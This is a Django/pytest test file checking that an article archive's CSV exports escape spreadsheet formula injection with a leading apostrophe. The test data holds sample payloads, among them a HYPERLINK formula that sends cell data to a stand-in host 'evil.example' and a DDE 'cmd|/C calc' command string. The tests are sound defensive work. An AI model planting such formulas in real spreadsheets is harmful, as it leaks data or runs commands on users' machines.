"""Every CSV the archive writes opens in a spreadsheet as data: a text cell that would be run as a
formula starts with an apostrophe (OWASP's CSV-injection advice); everything else is untouched."""

import csv
import io
from dataclasses import replace

import pytest
from django.test import Client
from django.utils import timezone

from articles.citations.formats import format_records
from articles.citations.record import CitedPerson
from articles.models import ArticleUsage
from articles.spreadsheets import spreadsheet_cell
from tests.articles.citations.records import ACCESSED, ENGLISH
from tests.factories import ArticleFactory, AuthorshipFactory, PersonFactory, ProceedingsFactory, staff_user

FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"Click")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+7 701 000 0000", "'+7 701 000 0000"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        (FORMULA, "'" + FORMULA),
    ],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(value, cell):
    assert spreadsheet_cell(value) == cell


@pytest.mark.parametrize("value", ["Цифрлық медиа", "1+1", "a=b", "foo@example.org", "'quoted'", "", 0, 42])
def test_other_cells_are_left_as_they_are(value):
    assert spreadsheet_cell(value) == value


def test_citation_csv_guards_every_column_not_only_the_title():
    record = replace(
        ENGLISH,
        title=FORMULA,
        display_title=FORMULA,
        authors=(CitedPerson(printed="-Minus A."),),
        publisher="@Publisher",
        keywords={"en": ("+keyword",)},
    )

    text = format_records([record], "csv", accessed=ACCESSED).decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(text, newline=""))

    assert (row["title"], row["display_title"], row["authors"], row["publisher"], row["keywords"]) == (
        "'" + FORMULA,
        "'" + FORMULA,
        "'-Minus A.",
        "'@Publisher",
        "'+keyword",
    )
    assert row["reference_gost_r_7_0_5_2008"].startswith("'-Minus A. =HYPERLINK(")
    assert (row["year"], row["first_page"]) == ("2025", "7")


@pytest.mark.django_db
def test_usage_report_csv_guards_titles_and_keeps_counts_as_numbers():
    volume = ProceedingsFactory(slug="vol")
    article = ArticleFactory(proceedings=volume, slug="paper", title_display=FORMULA)
    person = PersonFactory()
    AuthorshipFactory(article=article, person=person)
    ArticleUsage.objects.create(
        article=article, month=timezone.localdate().replace(day=1), metric="view", count=7
    )
    editor = Client()
    editor.force_login(staff_user("editor", editor=True))

    download = editor.get(f"/admin/articles/articleusage/volume/{volume.pk}/?format=csv")
    rows = list(csv.reader(io.StringIO(download.content.decode(), newline="")))

    view = next(row for row in rows[1:] if row[2] == "view")
    assert view[:4] == ["'" + FORMULA, "http://testserver/kk/articles/paper/", "view", "7"]
    assert view[-1] == "7"
